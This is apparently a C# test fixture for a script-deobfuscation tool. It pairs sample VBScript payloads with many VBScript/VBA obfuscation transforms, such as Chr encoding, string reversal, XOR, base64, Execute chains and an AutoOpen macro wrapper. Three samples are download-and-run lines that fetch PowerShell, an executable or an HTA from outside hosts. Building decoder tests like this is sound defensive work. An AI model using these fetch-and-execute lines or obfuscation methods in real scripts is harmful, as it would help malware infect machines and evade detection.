using System.Globalization;
using System.Text;
using System.Text.RegularExpressions;

namespace Stemma.Decoding.Tests;

/// <summary>Obfuscates scripts of our own in the ways that are met in VBScript and VBA: what goes in must come out again.</summary>
internal sealed partial class VisualBasicMatrix(int seed)
{
    public static readonly string[] Payloads =
    [
        "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"cmd.exe /c powershell -nop -w hidden http://198.51.100.7/a.ps1\", 0, False",
        "Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", \"http://files.example.net/update.bin\", False\r\nx.Send\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.Type = 1\r\ns.Open\r\ns.Write x.responseBody\r\ns.SaveToFile \"C:\\Users\\Public\\update.exe\", 2",
        "Set w = GetObject(\"winmgmts:root\\cimv2\")\r\nw.Get(\"Win32_Process\").Create \"mshta http://203.0.113.5/x.hta\", Null, Null, pid",
        "Set f = CreateObject(\"Scripting.FileSystemObject\")\r\nIf f.FileExists(\"C:\\Temp\\list.txt\") Then\r\n  MsgBox \"The file is there already\"\r\nEnd If",
    ];

    private readonly Random _random = new(seed);

    public static IReadOnlyList<(string Name, Func<VisualBasicMatrix, string, string> Make)> Transformations { get; } =
    [
        ("split strings", (m, s) => Strings(s, m.Split)),
        ("plus", (m, s) => Strings(s, t => string.Join(" + ", m.Pieces(t).Select(Quote)))),
        ("Chr", (_, s) => Strings(s, t => string.Join(" & ", t.Select(c => $"Chr({(int)c})")))),
        ("Chr of hexadecimal", (_, s) => Strings(s, t => string.Join("&", t.Select(c => $"ChrW(&H{(int)c:X})")))),
        ("Chr of sums", (m, s) => Strings(s, t => string.Join(" & ", t.Select(c => m._random.Next(1, 90) is var n ? $"Chr({(int)c + n}-{n})" : "")))),
        ("StrReverse", (_, s) => Strings(s, t => $"StrReverse({Quote(new string([.. t.Reverse()]))})")),
        ("Replace", (m, s) => Strings(s, m.Junk)),
        ("Join of Array", (m, s) => Strings(s, t => $"Join(Array({string.Join(", ", m.Pieces(t).Select(Quote))}), \"\")")),
        ("Mid", (_, s) => Strings(s, t => $"Mid({Quote("zq" + t + "kk")}, 3, {t.Length})")),
        ("Left and Right", (m, s) => Strings(s, t => m._random.Next(1, t.Length - 1) is var n ? $"Left({Quote(t[..n] + "xx")}, {n}) & Right({Quote("yy" + t[n..])}, {t.Length - n})" : "")),
        ("exclusive or", (m, s) => m.Function(s, "Function dec(t, k)\r\nDim i, o\r\nFor i = 1 To Len(t) Step 2\r\no = o & Chr(CLng(\"&H\" & Mid(t, i, 2)) Xor k)\r\nNext\r\ndec = o\r\nEnd Function\r\n", (t, k) => $"dec(\"{string.Concat(t.Select(c => (c ^ k).ToString("X2", CultureInfo.InvariantCulture)))}\", {k})")),
        ("shifted codes", (m, s) => m.Function(s, "Private Function unp(ByVal a As Variant) As String\r\nDim v As Variant\r\nFor Each v In Split(a, \"-\")\r\nunp = unp & Chr$(CInt(v) - 11)\r\nNext v\r\nEnd Function\r\n", (t, _) => $"unp(\"{string.Join('-', t.Select(c => c + 11))}\")")),
        ("nested calls", (m, s) => Strings(s, t => $"StrReverse(Replace({Quote(string.Join("#~", m.Pieces(new string([.. t.Reverse()]))))}, \"#~\", \"\"))")),
        ("constants", (m, s) => m.Named(s, "Const")),
        ("variables", (m, s) => m.Named(s, "")),
        ("Execute", (_, s) => $"Execute {Quote(s).Replace("\r\n", "\" & vbCrLf & \"", StringComparison.Ordinal)}"),
        ("ExecuteGlobal of codes", (_, s) => $"ExecuteGlobal {string.Join("&", s.Select(c => $"Chr({(int)c})"))}"),
        ("Execute of a loop", (_, s) => $"a = Split(\"{string.Join(',', s.Select(c => c * 3))}\", \",\")\r\nFor Each n In a\r\nr = r & Chr(n / 3)\r\nNext\r\nExecute r"),
        ("Execute twice", (m, s) => $"Execute StrReverse({Quote(new string([.. ("Execute " + string.Join("&", s.Select(c => $"Chr({(int)c})"))).Reverse()]))})"),
        ("continued lines", (m, s) => Strings(s, t => string.Join(" & _\r\n    ", m.Pieces(t).Select(Quote)))),
        ("letter cases", (_, s) => Strings(s, t => !t.Any(char.IsUpper) ? $"LCase({Quote(t.ToUpperInvariant())})" : $"StrReverse({Quote(new string([.. t.Reverse()]))})")),
        ("document macro", (m, s) => $"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n{Strings(s, m.Split)}\r\nEnd Sub"),
        ("base64 by XML", (m, s) => m.Function(s, "Function b64(t)\r\nSet d = CreateObject(\"MSXML2.DOMDocument\")\r\nSet e = d.createElement(\"b64\")\r\ne.dataType = \"bin.base64\"\r\ne.Text = t\r\nb64 = StrConv(e.nodeTypedValue, 64)\r\nEnd Function\r\n", (t, _) => $"b64(\"{Convert.ToBase64String(Encoding.Latin1.GetBytes(t))}\")")),
    ];

    private static string Strings(string script, Func<string, string> with) => Literal().Replace(script, m => m.Groups[1].Length < 3 ? m.Value : with(m.Groups[1].Value));

    private string Function(string script, string function, Func<string, int, string> with)
    {
        int key = _random.Next(1, 250);
        return function + Strings(script, t => with(t, key));
    }

    private List<string> Pieces(string text)
    {
        List<string> pieces = [];
        for (int i = 0; i < text.Length;)
        {
            int length = Math.Min(text.Length - i, _random.Next(1, 5));
            pieces.Add(text.Substring(i, length));
            i += length;
        }
        return pieces;
    }

    private string Split(string text) => string.Join(_random.Next(2) == 0 ? "&" : " & ", Pieces(text).Select(Quote));

    private string Junk(string text)
    {
        string junk = string.Concat(Enumerable.Range(0, 3).Select(_ => "QZXJ"[_random.Next(4)]));
        while (text.Contains(junk, StringComparison.Ordinal)) { junk += 'Q'; }
        return $"Replace({Quote(string.Join(junk, Pieces(text)))}, {Quote(junk)}, \"\")";
    }

    private string Named(string script, string keyword)
    {
        var before = new StringBuilder();
        int n = 0;
        string body = Strings(script, t =>
        {
            List<string> names = [];
            foreach (string piece in Pieces(t)) { before.Append(CultureInfo.InvariantCulture, $"{keyword} kq{n} = {Quote(piece)}\r\n"); names.Add("kq" + n++); }
            return string.Join(" & ", names);
        });
        return before + body;
    }

    private static string Quote(string text) => '"' + text.Replace("\"", "\"\"", StringComparison.Ordinal) + '"';

    [GeneratedRegex("\"([^\"]*)\"")]
    private static partial Regex Literal();
}
